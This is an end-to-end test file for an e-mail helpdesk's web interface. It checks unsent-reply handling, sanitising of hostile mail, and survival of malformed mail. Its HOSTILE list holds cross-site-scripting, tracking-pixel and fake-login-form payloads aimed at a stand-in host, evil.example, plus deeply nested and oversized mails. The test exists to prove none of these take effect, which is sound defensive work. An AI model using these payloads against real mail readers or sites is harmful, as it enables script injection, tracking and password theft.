// Mail that does not leave is said so, mail that is hostile does nothing, mail that is broken is kept.
import fs from "node:fs/promises";
import path from "node:path";
import { expect, test } from "../story.mjs";
import { letter } from "../letter.mjs";
import { INES, JULIEN, MARIEKE, goToView, message, openTicket, replyText, settings, signIn, ticketRow, undoAfter } from "../hands.mjs";

const SUBJECT = "Card was charged";

test.describe("without a mail server", () => {
  test.use({ given: { smtp: false } });

  test("it is said before writing that a reply is kept and not sent, and it leaves once there is a server", async ({ desk, browsers }) => {
    await desk.add(INES);
    await desk.receive(letter({ from: MARIEKE, subject: SUBJECT, text: "Twelve euros." }));
    const page = await browsers.open();
    await signIn(page, INES);
    await undoAfter(page, "Not, send at once");
    await goToView(page, "All open");
    await openTicket(page, SUBJECT);
    await expect(page.getByText("Mail is not set up: a reply is kept here and not sent")).toBeVisible();
    await replyText(page).click();
    await page.keyboard.type("We give it back");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await expect(message(page, INES.name, "reply")).toContainText("Mail is not set up: kept, not sent");
    await settings(page, "E-mail");
    const outgoing = page.getByRole("region", { name: "Outgoing mail" });
    await expect(outgoing).toContainText("Mail is kept but not sent");
    await expect(outgoing).toContainText("guichet serve --smtp-url");
    const stuck = page.getByRole("region", { name: "Replies that did not leave" });
    await expect(stuck).toContainText("Kept until there is a mail server");
    expect(desk.post.letters).toHaveLength(0);

    // The words on the page keep their promise.
    await desk.restart(["--smtp-url", desk.post.url]);
    const [sent] = await desk.post.take(1);
    expect(sent.text).toContain("We give it back");
    await page.reload();
    await expect(outgoing).toContainText("Replies are sent");
    await expect(stuck).toContainText("No reply is stuck");
  });
});

test.describe("without a mailbox", () => {
  test.use({ given: { smtp: false, mailbox: false } });

  test("the page says how to give the desk an address", async ({ desk, browsers }) => {
    await desk.add(INES);
    const page = await browsers.open();
    await signIn(page, INES);
    await settings(page, "E-mail");
    await expect(page.getByRole("region", { name: "Incoming mail" })).toContainText("There is no mailbox yet");
    await expect(page.getByRole("region", { name: "Incoming mail" })).toContainText("guichet serve --mail-address");
  });
});

test("a refused reply is shown on the message, in the list and in the settings, and Try again sends it", async ({ desk, browsers }) => {
  await desk.add(INES);
  await desk.receive(letter({ from: MARIEKE, subject: SUBJECT, text: "Twelve euros." }));
  desk.post.manner = "refuse";
  const page = await browsers.open();
  await signIn(page, INES);
  await undoAfter(page, "Not, send at once");
  await goToView(page, "All open");
  await openTicket(page, SUBJECT);
  await replyText(page).click();
  await page.keyboard.type("We give it back");
  await page.getByRole("button", { name: "Send", exact: true }).click();
  const reply = message(page, INES.name, "reply");
  await expect(reply).toContainText(/Not sent: .*no such mailbox here/);
  await expect(page.getByRole("row", { name: /Reply not sent/ })).toBeVisible();
  await settings(page, "E-mail");
  await expect(page.getByRole("region", { name: "Replies that did not leave" })).toContainText("no such mailbox here");
  await page.getByRole("region", { name: "Replies that did not leave" }).getByRole("link", { name: /^Ticket/ }).click();
  await expect(reply).toContainText("Not sent");
  desk.post.manner = "take";
  await reply.getByRole("button", { name: "Try again" }).click();
  await desk.post.take(1);
  await expect(reply).toContainText(/Sent|Handed over/);
  await expect(page.getByRole("row", { name: /Reply not sent/ })).toHaveCount(0);
  await settings(page, "E-mail");
  await expect(page.getByRole("region", { name: "Replies that did not leave" })).toContainText("No reply is stuck");
});

test("a reply whose server is away says when it is tried again", async ({ desk, browsers }) => {
  await desk.add(INES);
  await desk.receive(letter({ from: MARIEKE, subject: SUBJECT, text: "Twelve euros." }));
  await desk.post.close();
  const page = await browsers.open();
  await signIn(page, INES);
  await undoAfter(page, "Not, send at once");
  await goToView(page, "All open");
  await openTicket(page, SUBJECT);
  await replyText(page).click();
  await page.keyboard.type("We give it back");
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect(message(page, INES.name, "reply")).toContainText(/Not sent yet\. Next try /);
});

// Each of these was used against a mail program once; together they try every place where a mail is shown.
const HOSTILE = [
  `<p>before</p><script>window.top.pwned = 1; fetch("https://evil.example/script")</script>`,
  `<img src="https://evil.example/pixel.png" onerror="top.pwned = 2"><img src=x onerror=top.pwned=3>`,
  `<svg onload="top.pwned = 4"><script>top.pwned = 5</script><use href="https://evil.example/x.svg#a"/></svg>`,
  `<a href="javascript:top.pwned=6">press</a><a href=" java&#10;script:top.pwned=7">press</a>`,
  `<iframe src="https://evil.example/frame" srcdoc="<script>top.pwned=8</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<form action="https://evil.example/form"><input name="password" autofocus><button>Sign in</button></form>`,
  `<style>@import url("https://evil.example/a.css"); body { background: url(https://evil.example/b.png) } * { behavior: url(x) }</style>`,
  `<div style="background:url('https://evil.example/c.png');position:fixed;inset:0;z-index:99999;width:100vw;height:100vh">cover</div>`,
  `<table background="https://evil.example/d.png" width="100%"><tr><td bgcolor="#eeeeee" style="padding:20px">designed</td></tr></table>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/meta"><link rel="stylesheet" href="https://evil.example/l.css">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=9&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=top.pwned=10>"></noscript>`,
  `<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/s" autoplay></audio>`,
  `<img srcset="https://evil.example/s1 1x"><picture><source srcset="https://evil.example/s2"></picture>`,
  `<x onclick=top.pwned=11 id="ticket-subject" class="toast" name="body">clobber</x><p>after</p>`,
];

test("hostile mail is read and does nothing: no script runs and not one request leaves", async ({ desk, browsers }) => {
  test.setTimeout(120_000);
  await desk.add(INES);
  const name = `Eve "><img src=x onerror=top.pwned=20>`;
  const eve = { name, email: "eve@mail.example" };
  for (const [at, html] of HOSTILE.entries()) {
    await desk.receive(letter({
      from: eve,
      subject: `Hostile ${at} <script>top.pwned=21</script>`,
      html: `<html><body>${html}</body></html>`,
      text: at % 2 ? undefined : `plain ${at} <script>top.pwned=22</script>`,
      files: at ? [] : [{ name: `<img src=x onerror=top.pwned=23>.svg`, kind: "image/svg+xml", bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=24"/>`) }],
    }));
  }
  // All of it once more in one designed mail, which is shown on paper of its own.
  await desk.receive(letter({ from: eve, subject: "Hostile together", html: `<html><head><style>td { color: red }</style></head><body><table width="600" bgcolor="#ffffff"><tr><td>${HOSTILE.join("")}</td></tr></table></body></html>` }));
  const page = await browsers.open();
  const outside = [];
  page.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (!["data:", "blob:"].includes(protocol) && host !== new URL(desk.origin).host) outside.push(request.url());
  });
  page.on("dialog", (shown) => outside.push(`dialog: ${shown.message()}`));
  page.on("popup", (popup) => outside.push(`window: ${popup.url()}`));
  await signIn(page, INES);
  await goToView(page, "All open");
  await expect(page.locator(".ticket-row")).toHaveCount(HOSTILE.length + 1);
  for (const subject of [...HOSTILE.map((_, at) => `Hostile ${at} <script>top.pwned=21</script>`), "Hostile together"]) {
    await openTicket(page, subject);
    await expect(page.locator(".message")).toHaveCount(1);
    for (const frame of await page.locator("iframe").all()) {
      await expect(frame).toHaveAttribute("sandbox", /^(?!.*allow-scripts).*$/);
      await frame.scrollIntoViewIfNeeded();
    }
    await page.waitForTimeout(150);
    expect(await page.evaluate(() => window.pwned), subject).toBeUndefined();
    expect(page.url()).toContain(desk.origin);
    const inside = page.locator(".message-body").first();
    await expect(inside.locator("script, iframe:not(.mail-frame), object, embed, form, input, style, link, meta, base, svg, math, video, audio")).toHaveCount(0);
    const signs = await inside.locator("*").evaluateAll((all) => all.flatMap((one) => one.getAttributeNames().filter((name) => /^on|^style$|^id$|^class$/.test(name) && !one.closest(".mail-frame, .prose") && one.tagName !== "IFRAME")));
    expect(signs, subject).toEqual([]);
  }
  await expect(page.locator(".message-author")).toHaveText(name);
  // A link of a mail that is none cannot be pressed; one that is opens elsewhere and tells nobody where it came from.
  await expect(page.locator(".message-body a[href^='javascript']")).toHaveCount(0);
  expect(outside, "what left the desk").toEqual([]);
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
});

test("every broken mail is kept and becomes a ticket or waits in sight", async ({ desk, browsers }) => {
  test.setTimeout(90_000);
  await desk.add(INES);
  const folder = path.resolve(import.meta.dirname, "../../server/tests/mail");
  const names = (await fs.readdir(folder)).filter((name) => name.endsWith(".eml"));
  for (const name of names) await desk.receive(await fs.readFile(path.join(folder, name)));
  const nested = Array.from({ length: 5_000 }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\n`).join("");
  await desk.receive(Buffer.from(`From: deep@mail.example\r\nTo: support@pedalune.example\r\nSubject: Very deep\r\nMIME-Version: 1.0\r\n${nested}text`));
  await desk.receive(letter({ from: JULIEN, subject: "Forty thousand boxes", html: `${"<div>".repeat(40_000)}the words in the middle${"</div>".repeat(40_000)}` }));
  await desk.receive(letter({ from: JULIEN, subject: "An ordinary mail after them", text: "Good morning" }));
  const tooLarge = await desk.pipe(Buffer.concat([letter({ from: JULIEN, subject: "Too large", text: "x" }), Buffer.alloc(60 * 1024 * 1024, 97)]));
  expect(tooLarge.code, "too large for good: the sender is told").toBe(1);
  expect((await desk.pipe(Buffer.alloc(0))).code).toBe(1);
  const page = await browsers.open();
  await signIn(page, INES);
  await goToView(page, "All open");
  await expect(ticketRow(page, "An ordinary mail after them")).toBeVisible({ timeout: 30_000 });
  await openTicket(page, "Forty thousand boxes");
  await expect(message(page, JULIEN.name, "message")).toContainText("the words in the middle");
  await openTicket(page, "Very deep");
  await expect(page.locator(".message")).toContainText("Not shown in full");
  await settings(page, "E-mail");
  await expect(page.getByRole("region", { name: "Incoming mail" })).toContainText("0 mails", { timeout: 30_000 });
  await expect(page.getByRole("region", { name: "Mail that could not be read" })).toContainText("Every mail could be read");
});
